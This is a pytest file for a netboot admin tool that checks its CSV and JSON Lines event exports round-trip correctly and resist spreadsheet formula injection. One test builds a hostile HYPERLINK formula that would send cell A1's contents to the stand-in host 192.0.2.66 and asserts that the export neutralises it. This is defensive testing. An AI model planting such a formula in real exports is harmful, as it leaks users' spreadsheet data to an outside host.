"""Events as CSV and JSON Lines: no cell is a formula, and what is read again is what was written."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from netboot.admin.api.activity.activity_file import FileFormat, file_head, file_lines
from netboot.model.host.host import HostName
from netboot.model.install.event import Event

AT = datetime(2026, 11, 29, 2, tzinfo=UTC)


def rows(*events: Event) -> list[dict[str, str]]:
    text = (file_head(FileFormat.CSV) + file_lines(FileFormat.CSV, events)).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_a_row_has_the_event_with_its_actor_and_its_sentence():
    event = Event(
        "install.moved", AT, HostName("cp1"), data={"by": "armed", "note": "new disk", "actor": "alice"}, id=7
    )

    assert rows(event) == [
        {
            "id": "7",
            "at": "2026-11-29T02:00:00+00:00",
            "event": "install.moved",
            "host": "cp1",
            "mac": "",
            "step": "",
            "actor": "alice",
            "source": "",
            "text": "alice armed the install of cp1: new disk",
            "data": '{"by": "armed", "note": "new disk", "actor": "alice"}',
        }
    ]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_text_that_a_spreadsheet_would_calculate_begins_with_an_apostrophe(begin: str):
    hostile = f'{begin}HYPERLINK("http://192.0.2.66/?"&A1,"x")'
    event = Event("audit.recorded", AT, data={"actor": hostile, "action": "reload", "outcome": "done"})

    (row,) = rows(event)

    assert row["actor"] == f"'{hostile}"
    assert row["text"].startswith("'") or not begin.strip()


def test_quotes_commas_line_breaks_and_half_characters_survive():
    hostile = 'a "b", c\r\nd;e'
    events = [
        Event("boot.offered", AT, data={"name": hostile}),
        Event("boot.offered", AT, data={"name": "\ud800 x"}),
    ]

    assert [json.loads(row["data"])["name"] for row in rows(*events)] == [hostile, "? x"]


def test_json_lines_have_one_event_each():
    events = [Event("boot.offered", AT, data={"name": "a\nb"}, id=2), Event("boot.offered", AT, id=1)]

    lines = file_lines(FileFormat.JSON_LINES, events).decode().splitlines()

    assert file_head(FileFormat.JSON_LINES) == b""
    assert [json.loads(line)["id"] for line in lines] == [2, 1]
    assert json.loads(lines[0])["text"] == "name a\nb"
